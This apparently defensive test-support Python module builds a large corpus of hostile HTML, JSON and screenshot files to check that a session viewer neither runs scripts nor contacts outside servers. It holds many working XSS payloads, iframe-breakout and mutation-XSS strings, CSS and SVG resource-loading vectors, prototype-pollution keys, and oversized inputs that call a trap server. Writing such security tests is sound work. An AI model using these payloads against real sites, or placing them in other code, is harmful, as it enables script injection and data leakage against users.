"""Pages, JSON and screenshots that try to run code, to send requests, or to break out of the viewer.

`TRAP` is the address of a server that notes who connects, with the name of the page; `HOST` is its host and port.
A page that is `toothless` does not reach it in today's Chromium even without protection. It is kept for other browsers.
"""

from pathlib import Path
from typing import NamedTuple

from tests.support.viewed import JPEG, PNG

SESSION = "Corpus:1=@+,~-x"
RUN = (
    "fetch('TRAP',{mode:'no-cors',keepalive:true});try{top.__pwned=1;localStorage.x=1;document.cookie='x=1';top.document.title='pwned';"
    "top.document.body.remove()}catch(e){}"
)
DATA = "<script>" + RUN + "</script>"


class Hostile(NamedTuple):
    """A page, and True if it is known to do nothing in Chromium."""

    name: str
    html: str
    toothless: bool = False

    def at(self, trap: str) -> bytes:
        """Return the page with the address of the trap in it. Each page has its own path there."""
        text = self.html.replace("TRAP", f"{trap}/{self.name}").replace("HOST", trap.partition("//")[2])
        return text.encode(errors="surrogateescape")


SCRIPTS = [
    Hostile("script-inline", f"<script>{RUN}</script>"),
    Hostile("script-src", "<script src=TRAP></script>"),
    Hostile("script-module", "<script type=module src=TRAP></script>"),
    Hostile("script-import", "<script type=module>import 'TRAP'</script>"),
    Hostile(
        "script-speculation", '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["TRAP"]}]}</script>'
    ),
    Hostile("script-beacon", "<script>navigator.sendBeacon('TRAP')</script>"),
    Hostile("script-fetch", "<script>fetch('TRAP', {mode: 'no-cors', keepalive: true})</script>"),
    Hostile("script-event-source", "<script>new EventSource('TRAP')</script>"),
    Hostile("script-web-socket", "<script>new WebSocket('TRAP'.replace('http', 'ws'))</script>"),
    Hostile(
        "script-rtc",
        "<script>new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]}).createDataChannel('x')</script>",
        True,
    ),
    Hostile("script-open", "<script>open('TRAP')</script><button onclick=\"open('TRAP')\">open</button>"),
    Hostile("script-top", "<script>top.location = 'TRAP'</script>"),
    Hostile("script-dialogs", "<script>alert(1);confirm(2);prompt(3);print();fetch('TRAP')</script>"),
    Hostile(
        "script-unload",
        "<script>addEventListener('pagehide', () => navigator.sendBeacon('TRAP'))</script><a href=TRAP>away</a>",
    ),
    Hostile("on-error", f'<img src=x: onerror="{RUN}">'),
    Hostile("on-load", f'<body onload="{RUN}" onpageshow="{RUN}" onresize="{RUN}">text'),
    Hostile("on-focus", f'<input autofocus onfocus="{RUN}" onblur="{RUN}">'),
    Hostile("on-toggle", f'<details open ontoggle="{RUN}">text</details>'),
    Hostile(
        "on-animation", f'<style>@keyframes x {{}}</style><p style="animation: x 1s" onanimationstart="{RUN}">text'
    ),
    Hostile("on-click", f'<button onclick="{RUN}" onpointerdown="{RUN}" onmouseover="{RUN}">click</button>'),
    Hostile("on-slash", f'<svg/onload="{RUN}"/><image/onerror="{RUN}"/src=x:>'),
    Hostile("javascript-link", f'<a href="javascript:{RUN}">code</a><a href="java&Tab;script:{RUN}">tab</a>'),
    Hostile("javascript-frame", f'<iframe src="javascript:{RUN}"></iframe>'),
    Hostile("javascript-form", f'<form action="javascript:{RUN}"><button>send</button></form>'),
]
MOVING = [
    Hostile("refresh", '<meta http-equiv=refresh content="0;url=TRAP">'),
    Hostile(
        "refresh-body",
        '<body><p>text<meta http-equiv=" refresh" content="0 TRAP"><meta http-equiv=refresh content="0,TRAP">',
    ),
    Hostile("refresh-data", f'<meta http-equiv=refresh content="0;url=data:text/html,{DATA}">', True),
    Hostile("refresh-javascript", f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">', True),
    Hostile(
        "refresh-noscript", '<noscript><meta http-equiv=refresh content="0;url=TRAP"><img src=TRAP></noscript>', True
    ),
    Hostile("base", '<base href="TRAP/" target=_top><img src=x><a href=y>link</a>'),
    Hostile("link-top", "<a href=TRAP target=_top>top</a>"),
    Hostile("link-parent", "<a href=TRAP target=_parent>parent</a>"),
    Hostile("link-blank", "<a href=TRAP target=_blank rel=opener>blank</a>"),
    Hostile("link-self", "<a href=TRAP>self</a>"),
    Hostile("link-named", "<a href=TRAP target=main>named</a>"),
    Hostile("link-ping", '<a href="#" ping="TRAP">ping</a>'),
    Hostile("link-download", "<a href=TRAP download>save</a><a href='data:text/html,x' download=x>save</a>"),
    Hostile("link-attribution", "<a href='#' attributionsrc=TRAP>link</a><img src=data:, attributionsrc=TRAP>", True),
    Hostile(
        "link-area",
        "<img usemap='#m' width=99 height=99 src=data:,><map name=m><area href=TRAP coords=0,0,99,99 target=_top></map>",
    ),
    Hostile(
        "link-image-map",
        "<a href=TRAP target=_top><img ismap src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' width=9 height=9></a>",
    ),
    Hostile(
        "link-svg", "<svg width=99 height=99><a href=TRAP target=_top xlink:href=TRAP><text y=20>svg</text></a></svg>"
    ),
    Hostile(
        "link-smil",
        "<svg width=99 height=99><a id=a href=x:><animate attributeName=href values=TRAP begin=0s fill=freeze dur=1ms /><set attributeName=href to=TRAP /><set attributeName=target to=_top /><text y=20>smil</text></a></svg>",
    ),
    Hostile("link-mathml", "<math href=TRAP><mtext href=TRAP xlink:href=TRAP>math</mtext></math>", True),
    Hostile("form", "<form action=TRAP><input name=a autofocus value=1><button>send</button></form>"),
    Hostile("form-post", "<form action=TRAP method=post target=_top><button>send</button></form>"),
    Hostile("form-blank", "<form action=TRAP target=_blank><input type=submit></form>"),
    Hostile("form-action", "<form><button formaction=TRAP formtarget=_top>send</button></form>"),
    Hostile("form-outside", "<form id=f action=TRAP></form><button form=f>send</button>"),
    Hostile("form-image", "<form action=TRAP><input type=image src=TRAP></form>"),
    Hostile(
        "form-login",
        "<form action=TRAP><input name=user autocomplete=username><input type=password autocomplete=current-password><button>log in</button></form>",
    ),
    Hostile(
        "form-svg-title",
        "<svg><title><form action=TRAP><button>send</button></form></title></svg><form action=TRAP><button>send</button></form>",
    ),
]
FRAMES = [
    Hostile("frame-src", "<iframe src=TRAP></iframe>"),
    Hostile("frame-lazy", "<iframe src=TRAP loading=lazy></iframe>"),
    Hostile("frame-data", f'<iframe src="data:text/html,{DATA}"></iframe>'),
    Hostile("frame-srcdoc", f'<iframe srcdoc="{DATA}<img src=TRAP>"></iframe>'),
    Hostile("frame-nested", "<iframe srcdoc=\"<iframe srcdoc='<img src=TRAP>'></iframe>\"></iframe>"),
    Hostile(
        "frame-deep",
        "<iframe srcdoc=\"<iframe srcdoc='<iframe srcdoc=&amp;quot;<script src=TRAP></script>&amp;quot;></iframe>'>\">",
    ),
    Hostile("frame-many", "<iframe srcdoc='<link rel=preconnect href=TRAP><img src=TRAP>'></iframe>" * 60),
    Hostile("frame-names", f'<iframe sandbox="allow-scripts" name=x src=TRAP srcdoc="{DATA}" onload="{RUN}"></iframe>'),
    Hostile(
        "frame-mutation", f'<svg><iframe srcdoc="{DATA}"></svg><math><iframe srcdoc="<img src=TRAP>"></math>', True
    ),
    Hostile("frame-style", "<iframe srcdoc='text' style='background: url(TRAP)' width='1\" onload=x'></iframe>"),
    Hostile("noscript", f"<noscript><p title='</noscript>{DATA}<img src=TRAP>'></noscript>"),
    Hostile(
        "frame-allowing",
        f'<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="{DATA}"></iframe>',
    ),
    Hostile("frame-breakout", f'"></iframe>{DATA}<img src=TRAP>'),
    Hostile("frame-breakout-quotes", f"'\"></iframe></div></main></body></html>{DATA}"),
    Hostile("frame-breakout-escaped", f"&quot;&gt;&lt;/iframe&gt;{DATA}"),
    Hostile("frame-set", "<frameset onload=\"fetch('TRAP')\"><frame src=TRAP></frameset>"),
    Hostile("object", "<object data=TRAP></object>"),
    Hostile("object-html", f'<object type="text/html" data="data:text/html,{DATA}"></object>'),
    Hostile("embed", "<embed src=TRAP type=text/html>"),
    Hostile("embed-pdf", "<embed src=TRAP type=application/pdf><object data=TRAP type=application/pdf></object>"),
    Hostile("applet", "<applet codebase=TRAP archive=TRAP code=x></applet>", True),
    Hostile(
        "portal", "<portal src=TRAP></portal><fencedframe src=TRAP></fencedframe><webview src=TRAP></webview>", True
    ),
]
LOADING = [
    Hostile("link-stylesheet", "<link rel=stylesheet href=TRAP>"),
    Hostile("link-preload", "<link rel=preload as=image href=TRAP><link rel=preload as=script href=TRAP>"),
    Hostile("link-image-preload", "<link rel=preload as=image imagesrcset='TRAP 1x'>"),
    Hostile("link-prefetch", "<link rel=prefetch href=TRAP>"),
    Hostile("link-preconnect", "<link rel=preconnect href=TRAP>"),
    Hostile("link-preconnect-body", "<body><p>text<link rel='preconnect dns-prefetch' href=TRAP crossorigin>"),
    Hostile("link-dns", "<link rel=dns-prefetch href=TRAP>", True),
    Hostile("link-module", "<link rel=modulepreload href=TRAP>"),
    Hostile("link-icon", "<link rel=icon href=TRAP><link rel='shortcut icon' href=TRAP>"),
    Hostile("link-manifest", "<link rel=manifest href=TRAP>", True),
    Hostile("link-prerender", "<link rel=prerender href=TRAP>", True),
    Hostile("link-search", "<link rel=search type=application/opensearchdescription+xml href=TRAP>", True),
    Hostile("link-dictionary", "<link rel=compression-dictionary href=TRAP>"),
    Hostile("link-svg-element", "<svg><link rel=stylesheet href=TRAP /><xhtml:link rel=stylesheet href=TRAP /></svg>"),
    Hostile("manifest", "<!DOCTYPE html><html manifest=TRAP><p>text", True),
    Hostile(
        "policy",
        '<meta http-equiv=Content-Security-Policy content="img-src x:; report-uri TRAP"><img src="data:,">',
        True,
    ),
    Hostile("css-import", "<style>@import 'TRAP';</style>"),
    Hostile("css-import-escaped", "<style>@\\69mport u\\72l(TRAP) layer(x);</style>"),
    Hostile("css-url", "<style>p { background: url(TRAP) }</style><p>text"),
    Hostile("css-attribute", '<p style="background: url(TRAP)">text'),
    Hostile("css-font", "<style>@font-face { font-family: x; src: url(TRAP) } p { font-family: x }</style><p>text"),
    Hostile("css-cursor", "<style>html { cursor: url(TRAP), auto }</style>"),
    Hostile("css-image-set", "<p style=\"background: image-set('TRAP' 1x)\">text"),
    Hostile("css-filter", '<p style="filter: url(TRAP#f); mask: url(TRAP#m); clip-path: url(TRAP#c)">text'),
    Hostile("css-shape", '<p style="float: left; width: 9px; shape-outside: url(TRAP)">text'),
    Hostile(
        "css-content", "<style>p::before { content: url(TRAP) } li { list-style: url(TRAP) }</style><p>text<li>item"
    ),
    Hostile("css-variable", "<style>p { --x: url(TRAP); background: var(--x) }</style><p>text"),
    Hostile("css-hover", "<style>button:active, button:focus { background: url(TRAP) }</style><button>press</button>"),
    Hostile(
        "css-old", "<style>p { behavior: url(TRAP); -moz-binding: url(TRAP); x: expression(1) }</style><p>text", True
    ),
    Hostile("image", "<img src=TRAP>"),
    Hostile("image-srcset", "<img srcset='TRAP 1x, TRAP 2x'>"),
    Hostile("image-picture", "<picture><source srcset=TRAP><img alt=x></picture>"),
    Hostile("image-lazy", "<img src=TRAP loading=lazy>"),
    Hostile("image-alias", "<image src=TRAP>"),
    Hostile("image-input", "<input type=image src=TRAP>"),
    Hostile("image-background", "<body background=TRAP><table background=TRAP><td background=TRAP>x"),
    Hostile("image-slashes", "<img src=//HOST/image-slashes><img src='\\\\HOST/image-slashes'>"),
    Hostile("image-dynsrc", "<img dynsrc=TRAP lowsrc=TRAP longdesc=TRAP><blockquote cite=TRAP>", True),
    Hostile(
        "image-foreign",
        "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src=TRAP></body></foreignObject></svg>",
    ),
    Hostile("video", "<video src=TRAP autoplay muted></video>"),
    Hostile("video-poster", "<video poster=TRAP></video>"),
    Hostile(
        "video-source",
        "<video autoplay muted><source src=TRAP></video><video src='data:video/mp4,'><track default src=TRAP></video>",
    ),
    Hostile("audio", "<audio src=TRAP preload=auto></audio><bgsound src=TRAP>"),
    Hostile("svg-script", f"<svg><script>{RUN}</script><script href=TRAP></script></svg>"),
    Hostile("svg-image", "<svg><image href=TRAP width=9 height=9 /><feImage xlink:href=TRAP /></svg>"),
    Hostile("svg-use", "<svg><use href='TRAP#a'/><use xlink:href='TRAP#a'/></svg>", True),
    Hostile(
        "svg-use-data",
        "<svg><use href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='a'><image href='TRAP'/></svg>#a\"/></svg>",
        True,
    ),
    Hostile(
        "svg-paint",
        '<svg><rect width=9 height=9 fill="url(TRAP#p)" style="marker: url(TRAP#m)"/><filter id=f><feImage href=TRAP /></filter></svg>',
    ),
    Hostile(
        "svg-set",
        "<svg><image width=9 height=9><set attributeName=href to=TRAP /><animate attributeName=href values=TRAP /></image></svg>",
    ),
    Hostile(
        "svg-in-data",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='TRAP'/><script>fetch('TRAP')</script></svg>\">",
        True,
    ),
    Hostile("xml-stylesheet", "<?xml-stylesheet href='TRAP'?><!DOCTYPE x [<!ENTITY e SYSTEM 'TRAP'>]><p>&e;", True),
    Hostile(
        "shadow",
        f'<div><template shadowrootmode=open><img src=TRAP onerror="{RUN}"><link rel=preconnect href=TRAP></template></div>',
    ),
    Hostile(
        "shadow-nested",
        "<div><template shadowrootmode=open><div><template shadowrootmode=closed><style>@import 'TRAP'</style><link rel=stylesheet href=TRAP></template></div></template></div>",
    ),
    Hostile("template", f"<template><img src=TRAP>{DATA}</template>", True),
]
# Shapes whose tree is another when they are written out and read again; the address is in what comes out then.
CHANGING = [
    Hostile("change-noscript", '<noscript><p title="</noscript><img src=TRAP><link rel=preconnect href=TRAP>">'),
    Hostile("change-style", '<svg></p><style><a id="</style><img src=TRAP><link rel=preconnect href=TRAP>">'),
    Hostile("change-title", '<svg><title><style><img title="</style><link rel=preconnect href=TRAP><img src=TRAP>">'),
    Hostile("change-textarea", "<textarea></textarea \n/><img src=TRAP><link rel=preconnect href=TRAP>"),
    Hostile(
        "change-table",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;link rel=preconnect href=TRAP&gt;&lt;img src=TRAP&gt;'>",
        True,
    ),
    Hostile(
        "change-form",
        "<form><math><mtext></form><form><mglyph><style></math><link rel=preconnect href=TRAP><img src=TRAP>",
        True,
    ),
    Hostile(
        "change-form-svg",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><link rel=preconnect href=TRAP>'>",
        True,
    ),
    Hostile(
        "change-annotation",
        "<math><annotation-xml encoding='text/html'><style><img title='</style><link rel=preconnect href=TRAP><img src=TRAP>'></style>",
    ),
    Hostile(
        "change-select",
        "<select><math><mtext><style></select><link rel=preconnect href=TRAP><img src=TRAP></style>",
        True,
    ),
    Hostile(
        "change-plaintext",
        "<xmp><p title='</xmp><img src=TRAP><link rel=preconnect href=TRAP>'><plaintext><img src=TRAP>",
    ),
    Hostile(
        "change-noembed",
        "<noembed><p title='</noembed><img src=TRAP>'></noembed><noframes></noframes><link rel=preconnect href=TRAP>",
    ),
    Hostile("change-comment", "<!--><img src=TRAP>--><!--!><link rel=preconnect href=TRAP>--!><img src=TRAP><!-- - ->"),
    Hostile("change-cdata", "<svg><![CDATA[><link rel=preconnect href=TRAP>]]></svg><![CDATA[<img src=TRAP>]]>", True),
    Hostile(
        "change-nested",
        "<a href=x:><table><a href=TRAP><img src=TRAP></table></a><p><table><p><link rel=preconnect href=TRAP>",
    ),
    Hostile(
        "change-html",
        "<p>text</p><html onmouseover=\"fetch('TRAP')\"><body background=TRAP><head><link rel=preconnect href=TRAP>",
    ),
    Hostile(
        "change-namespace",
        "<svg><desc><svg><style><!--</style><link rel=preconnect href=TRAP>--></style></svg></desc></svg>",
        True,
    ),
    Hostile("utf-7", "<meta charset=utf-7>+ADw-script+AD4-fetch('TRAP')+ADw-/script+AD4-", True),
    Hostile(
        "nul", "<scr\0ipt>fetch('TRAP')</scr\0ipt><im\0g src=TRAP><img\0src=TRAP><img src=TRA\0P><img/\0/src=TRAP>"
    ),
    Hostile("not-utf-8", "\udc80\udcff<img src=TRAP alt='\udcc3'>\udc80<script>fetch('TRAP')</script>"),
    Hostile("utf-16", "<meta charset=utf-16><script>fetch('TRAP')</script>"),
    Hostile("attributes", "<img src=x: src=TRAP SRC=TRAP><img `src=TRAP><img data:src=TRAP sr&#99;=TRAP>", True),
    Hostile("entities", "<a href='&#106;avascript&colon;fetch(`TRAP`)'>code</a>"),
]
PAGES = SCRIPTS + MOVING + FRAMES + LOADING + CHANGING

BREAKS = (
    "</script><script>__pwned = 1</script><!-- <script> ]]> \u2028 \u2029 & \0 ${__pwned = 1} {{ 7 * 7 }} {% raw %}"
)
JSON = {
    "tags": '{"type": "</script><script>__pwned=1</script>", "url": "javascript:__pwned=1", "title": "<img src=TRAP onerror=\'__pwned=1\'>"}',
    "comment": '{"type": "<!--<script>", "url": "]]>", "title": "--> \u2028 \u2029"}',
    "keys": '{"<img src=TRAP>": {"</script>": 1, "\\"onload=\\"__pwned=1": 2}, "__proto__": {"viewport": [9, 9]}, "constructor": {"prototype": 1}, "toString": 1}',
    "surrogates": '{"type": "\\ud800", "title": "\\udfff\\ud800", "url": "\\u0000\\u202e"}',
    "numbers": '{"type": 1e999, "viewport": [1e999, -1e999], "url": 123456789012345678901234567890.5, "n": [1e400, NaN, Infinity, -0]}',
    "sizes": '{"viewport": {"width": "9999999", "height": "calc(1px)"}, "type": [[]], "url": {}, "title": null}',
    "style": '{"viewport": "640;background:url(TRAP)x480", "type": "x", "selector": "\\"><img src=TRAP>"}',
    "null": "null",
    "array": '[{"viewport": 1}]',
    "text": '"<script src=TRAP></script>"',
    "broken": '{"type": "<img src=TRAP>", "x": [1, }}}',
    "empty": "",
    "breaks": '{"type": "' + BREAKS + '", "title": "x"}',
    "two": '{"type": "a"}\n{"type": "b"}',
    "bytes": "\udcff\udcfe\udc80",
    "deep": '{"type": "deep", "x": ' + "[" * 5000 + "]" * 5000 + "}",
    "deeper": '{"x":' * 100_000,
    "long": '{"type": "' + "long<script>" * 900_000 + '"}',
    "wide": '{"type": "wide", "x": [' + "1," * 1_000_000 + "1]}",
    "slashes": '{"type": "' + '\\\\\\"' * 500_000 + '"}',
}  # fmt: skip
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'TRAP\')"><script>fetch("TRAP")</script><image href="TRAP"/></svg>'
SCREENSHOTS = {
    "svg": SVG,
    "html": f"<!DOCTYPE html><script>{RUN}</script><img src=TRAP>",
    "xml": f'<?xml version="1.0"?><?xml-stylesheet href="TRAP"?>{SVG}',
    "empty": "",
    "text": "not an image",
    "pdf": "%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(TRAP)>>>>endobj",
    "png-html": PNG.decode("latin-1") + f"<script>{RUN}</script>",
    "png-short": PNG[:40].decode("latin-1"),
    "png-huge": (PNG[:16] + b"\x7f\xff\xff\xff\x7f\xff\xff\xff" + PNG[24:]).decode("latin-1"),
    "jpeg-html": JPEG.decode("latin-1") + f"<html><script>{RUN}</script>",
}
# Large or deep pages. Each ends in an image at the trap.
HUGE = {
    "huge-flat": "<p class=x>text</p>" * 1_050_000,
    "huge-deep": "<div>" * 10_000,
    "huge-inline": "<b><i><a href=x:>" * 300,
    "huge-template": "<template>" * 2_000,
    "huge-svg": "<svg><g>" + "<g>" * 5_000,
    "huge-attribute": "<p title='" + "x" * 3_000_000 + "'>text",
    "huge-text": "x" * 5_000_000,
    "huge-tables": "<table><tr><td>" * 300,
    "huge-doctype": "<!DOCTYPE " + "x" * 3_000_000 + ">",
    "huge-attributes": "<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">",
}


# Actions and metadata with the fields from which the viewer draws marks, rows, thoughts and the timeline.
DRAWN = {
    "mark-far": '{"point": {"x": 1e300, "y": -1e300}, "box": [1e9, 1, 1e9, 1], "coordinate": [1, 2, 3]}',
    "mark-kinds": '{"point": "1,2", "box": {"x": "<b>", "y": [], "width": null, "height": {}}, "x": true, "y": "1"}',
    "mark-infinite": '{"x": 1e999, "y": -1e999, "box": [0, 0, 1e999, 1e999], "bounds": [0, 0, -1, 0]}',
    "mark-many": '{"actions": [' + ",".join(['{"x": 1, "y": 1, "box": [1, 1, 1, 1]}'] * 20000) + "]}",
    "selector-breakout": '{"selector": "p\\"] { } </style><img src=TRAP>", "type": "<img src=TRAP onerror=RUN>"}',
    "selector-spelling": '{"selector": ":\\\\68 as(* *)", "css_selector": "[a=\\\\\\"] :has(b) [c=\\\\\\"]", "target": "p /**/ :is(a)"}',
    "selector-slow": '{"selector": "' + "* " * 400 + '"}',
    "selector-has": '{"selector": ":has(* * * * * *) ~ * ~ * ~ *", "xpath": "//*[//*[//*[//*]]]"}',
    "selector-long": '{"selector": "' + "p" * 500000 + '"}',
    "selector-policy": '{"selector": "meta", "css_selector": "head", "target": "html"}',
    "thought-html": '{"thought": "<img src=TRAP onerror=RUN><script>RUN</script>", "goal": {"toString": 1}}',
    "thought-huge": '{"thought": "' + "x" * 900000 + '", "reasoning": "\u202e\u2066 right to left"}',
    "error-html": '{"error": {"message": "<img src=TRAP onerror=RUN>", "toString": "x"}, "success": false}',
    "error-deep": '{"error": ' + '{"error": ' * 150 + "1" + "}" * 150 + "}",
    "time-odd": '{"timestamp": "<b>", "wallTime": 1e308, "duration": "9e99", "startTime": {}, "endTime": -1}',
    "time-far": '{"timestamp": 99999999999999999999, "duration": 1e300, "observed": "__proto__"}',
    "missing-html": '{"not_captured": {"screenshot": "<img src=TRAP onerror=RUN>", "<b>": "x", "html": 1}, "url": "javascript:RUN"}',
    "names": '{"__proto__": {"error": "x"}, "constructor": {"type": "y"}, "type": "constructor", "actions": {"length": 1e9}}',
    "viewport-odd": '{"viewport": {"width": 1e9, "height": "<b>"}, "device_pixel_ratio": -1, "scroll": {"x": "a"}}',
}


def lay_drawn(base: Path, trap: str) -> list[str]:
    """Write a session with a step for each of DRAWN, as action and as metadata, with a page and a screenshot."""
    for name, text in DRAWN.items():
        step = base / SESSION / name
        step.mkdir(parents=True)
        (step / "observation.html").write_text("<meta name=x><p>text<iframe srcdoc='<p>frame'></iframe>")
        (step / "screenshot.png").write_bytes(PNG)
        for component in ("action", "metadata"):
            data = text.replace("RUN", "top.__pwned=1").replace("TRAP", f"{trap}/{component}-{name}")
            (step / f"{component}.json").write_text(data)
    return sorted(DRAWN)


def lay_pages(base: Path, trap: str) -> list[str]:
    """Write a session with a step for every page. Return the step ids."""
    for page in PAGES:
        step = base / SESSION / page.name
        step.mkdir(parents=True)
        (step / "observation.html").write_bytes(page.at(trap))
    return sorted(page.name for page in PAGES)


def lay_data(base: Path, trap: str) -> list[str]:
    """Write a session with a step for every JSON, as action and as metadata, and the screenshots."""
    screenshots = [(name, text) for name, text in SCREENSHOTS.items() for _ in range(2)]
    for (name, text), (kind, image) in zip(JSON.items(), screenshots, strict=False):
        step = base / SESSION / name
        step.mkdir(parents=True)
        for component in ("action", "metadata"):
            data = text.replace("TRAP", f"{trap}/{component}-{name}").encode(errors="surrogateescape")
            (step / f"{component}.json").write_bytes(data)
        encoding = "latin-1" if "-" in kind else "utf-8"
        (step / "screenshot.png").write_bytes(image.replace("TRAP", f"{trap}/screenshot-{kind}").encode(encoding))
    return sorted(JSON)


def lay_huge(base: Path, trap: str) -> list[str]:
    """Write a session of the huge pages."""
    for name, html in HUGE.items():
        step = base / "huge" / name
        step.mkdir(parents=True)
        (step / "observation.html").write_text(f"{html}<img src={trap}/{name}><script src={trap}/{name}></script>")
    return sorted(HUGE)
